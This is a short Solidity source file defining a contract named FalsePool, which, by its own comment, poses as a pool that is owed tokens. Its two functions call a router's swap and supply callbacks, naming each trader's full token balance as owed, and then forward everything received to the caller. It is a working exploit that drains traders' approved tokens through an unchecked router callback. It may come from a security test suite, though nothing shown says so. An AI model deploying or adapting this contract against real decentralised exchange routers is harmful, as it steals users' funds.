// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IRouter {
    function swapCallback(uint256 owed, bytes calldata data) external;

    function supplyCallback(uint256 owed0, uint256 owed1, bytes calldata data) external;
}

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// Presents itself as a pool that somebody owes.
contract FalsePool {
    function run(IRouter router, IToken[] calldata tokens, address[] calldata traders) external {
        for (uint256 i = 0; i < traders.length; i++) {
            router.swapCallback(tokens[i].balanceOf(traders[i]), abi.encode(tokens[i], traders[i]));
            tokens[i].transfer(msg.sender, tokens[i].balanceOf(address(this)));
        }
    }

    function runAsSupply(IRouter router, IToken token0, IToken token1, address trader, uint256 amount) external {
        router.supplyCallback(amount, amount / 2, abi.encode(token0, token1, trader));
        token0.transfer(msg.sender, token0.balanceOf(address(this)));
        token1.transfer(msg.sender, token1.balanceOf(address(this)));
    }
}
